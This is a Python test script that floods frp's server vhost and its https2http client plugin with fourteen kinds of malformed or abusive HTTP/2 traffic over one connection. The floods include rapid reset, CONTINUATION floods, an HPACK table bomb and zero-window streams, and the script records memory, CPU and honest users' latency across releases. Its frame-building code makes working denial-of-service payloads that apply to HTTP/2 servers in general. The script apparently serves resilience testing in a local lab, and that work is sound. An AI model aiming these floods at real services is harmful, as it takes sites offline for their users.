#!/usr/bin/env python3
"""Abuse of HTTP/2 by one connection, at the vhost of frps and at frpc's plugin https2http.  http2.py NAME=DIR... [WORD...]

Each flood goes as fast as one core sends it for FLOOD (3) seconds. Prints for the program that is attacked the most
memory, CPU of one core, the longest wait of honest users of the same site meanwhile, and whether the connection was
closed.
"""
import multiprocessing
import os
import socket
import struct
import sys
import time

from lib import *

FLOOD = float(os.environ.get("FLOOD", "3"))
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING_FRAME, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
SITE = {"frps": (VHOST, "a.test"), "frpc": (HTTPS, "1.test")}


def frame2(kind, flags, stream, body=b""):
    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body


def field(name, value, indexed=False):
    """A literal, kept in the table or not."""
    name, value = name.encode(), value.encode()
    length = bytes([len(value)]) if len(value) < 127 else b"\x7f" + varint(len(value) - 127)
    return (b"\x40" if indexed else b"\0") + bytes([len(name)]) + name + length + value


def varint(number):
    out = b""
    while number >= 128:
        out, number = out + bytes([number % 128 | 128]), number // 128
    return out + bytes([number])


class Flood:
    """What goes on a connection: `first` once, then `more()` without end."""

    def __init__(self, host):
        self.block = b"\x82\x86\x84" + field(":authority", host)
        self.post = b"\x83\x86\x84" + field(":authority", host)
        self.first = PREFACE + frame2(SETTINGS, 0, 0)
        self.stream = 1

    def each(self, count, make):
        out = b"".join(make(self.stream + 2 * n) for n in range(count))
        self.stream += 2 * count
        return out


def rapid_reset(f):
    return f.each(500, lambda s: frame2(HEADERS, 5, s, f.block) + frame2(RESET, 0, s, struct.pack(">I", 8)))


def made_to_reset(f):
    return f.each(500, lambda s: frame2(HEADERS, 4, s, f.post) + frame2(WINDOW_UPDATE, 0, s, bytes(4)))


def never_ended(f):
    if f.stream > 1:
        return b""
    return f.each(200, lambda s: frame2(HEADERS, 4, s, f.post))


def not_ended_heads(f):
    if f.stream == 1:
        f.stream = 3
        return frame2(HEADERS, 1, 1, f.block)
    return frame2(CONTINUATION, 0, 1, field("x", "y" * 4000)) * 50


def empty_continuations(f):
    if f.stream == 1:
        f.stream = 3
        return frame2(HEADERS, 1, 1, f.block)
    return frame2(CONTINUATION, 0, 1) * 2000


def settings(f):
    return frame2(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535) * 6) * 1000


def pings(f):
    return frame2(PING_FRAME, 0, 0, bytes(8)) * 1000


def priorities(f):
    return f.each(1000, lambda s: frame2(PRIORITY, 0, s, struct.pack(">IB", 0, 1)))


def windows(f):
    return frame2(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 2000


def empty_data(f):
    first = frame2(HEADERS, 4, 1, f.post) if f.stream == 1 else b""
    f.stream = 3
    return first + frame2(DATA, 0, 1) * 2000


def padded_data(f):
    first = frame2(HEADERS, 4, 1, f.post) if f.stream == 1 else b""
    f.stream = 3
    return first + frame2(DATA, 8, 1, b"\xff" + bytes(255)) * 100


def table_bomb(f):
    if f.stream == 1:
        f.stream = 3
        return frame2(HEADERS, 5, 1, f.block + field("x", "y" * 3900, True))
    return f.each(20, lambda s: frame2(HEADERS, 5, s, f.block + b"\xbe" * 16000))


def many_fields(f):
    return f.each(50, lambda s: frame2(HEADERS, 5, s, f.block + field("a", "") * 4000))


def no_window(f):
    if f.stream > 1:
        return b""
    f.first = PREFACE + frame2(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    return f.each(200, lambda s: frame2(HEADERS, 5, s, f.block))


FLOODS = {
    "rapid reset": rapid_reset, "made to reset": made_to_reset, "200 requests that do not end": never_ended,
    "a head without an end": not_ended_heads, "continuations of nothing": empty_continuations, "settings": settings,
    "pings": pings, "priorities": priorities, "windows of a byte": windows, "data of nothing": empty_data,
    "padding": padded_data, "a bomb for the table (HPACK)": table_bomb, "4,000 fields": many_fields,
    "200 answers that have no window": no_window,
}


def flood(kind, at, told):
    port, host = SITE[at]
    what = Flood(host)
    ahead = FLOODS[kind](what)
    conn = socket.create_connection((HONEST, port), 5, (ATTACKER, 0))
    if at == "frpc":
        conn = client_tls(["h2"]).wrap_socket(conn, server_hostname=host)
        if conn.selected_alpn_protocol() != "h2":
            told.value = -1
            return
    end, ahead = time.time() + FLOOD, what.first + ahead
    conn.setblocking(False)
    told.value = 1
    try:
        while time.time() < end:
            try:
                if ahead:
                    ahead = ahead[conn.send(ahead):]
                else:
                    time.sleep(0.01)
            except (BlockingIOError, ssl.SSLWantWriteError):
                time.sleep(0.001)
            try:
                if conn.recv(1 << 20) == b"":
                    raise ConnectionError
            except (BlockingIOError, ssl.SSLWantReadError):
                pass
            if not ahead:
                ahead = FLOODS[kind](what)
    except OSError:
        told.value = 2
        time.sleep(max(0, end - time.time()))


def user_of(at):
    port, host = SITE[at]
    if at == "frps":
        return lambda: get(port, host)

    def comes():
        try:
            with client_tls().wrap_socket(socket.create_connection((HONEST, port), 5), server_hostname=host) as conn:
                conn.settimeout(5)
                conn.sendall(f"GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
                return b" 200 " in conn.recv(100)
        except OSError:
            return False

    return comes


def attack(path, at, kind):
    server = frps(path)
    plugin = proxy("tls", "https", customDomains=["1.test"])
    plugin += f'[proxies.plugin]\ntype = "https2http"\nlocalAddr = "127.0.0.1:{SERVICE + 1}"\n'
    client = frpc(path, ECHO + proxy("web", "http", localPort=SERVICE + 1, customDomains=["a.test"]) + plugin)
    target = {"frps": server, "frpc": client}[at]
    until(user_of(at), 5)
    target.watch()
    people = Honest(user=user_of(at))
    told = multiprocessing.Value("i", 0)
    flooding = in_process(flood, kind, at, told)
    flooding.join(FLOOD + 10)
    flooding.kill()
    said = people.leave()
    memory, descriptors, cpu = target.took()
    lives = target.lives()
    client.stop()
    server.stop()
    if not lives:
        return "ended"
    if told.value == -1:
        return "speaks no HTTP/2"
    closed = ", closed" if told.value == 2 else ""
    return f"+{memory:.0f} MB, {cpu:.0f} %, user {said['user']}{closed}"


def main():
    named, words = releases()
    services = [echo_service(), web_service(SERVICE + 1)]
    rows = {}
    for at in SITE:
        for kind in FLOODS:
            if words and not any(word in f"{at}: {kind}" for word in words):
                continue
            for name, path in named.items():
                rows.setdefault(f"{at}: {kind}", {})[name] = attack(path, at, kind)
                print(f"  {at}: {kind}, {name}: {rows[f'{at}: {kind}'][name]}", file=sys.stderr, flush=True)
    table(f"HTTP/2, one connection for {FLOOD:.0f} s", rows)
    for service in services:
        service.terminate()


main()
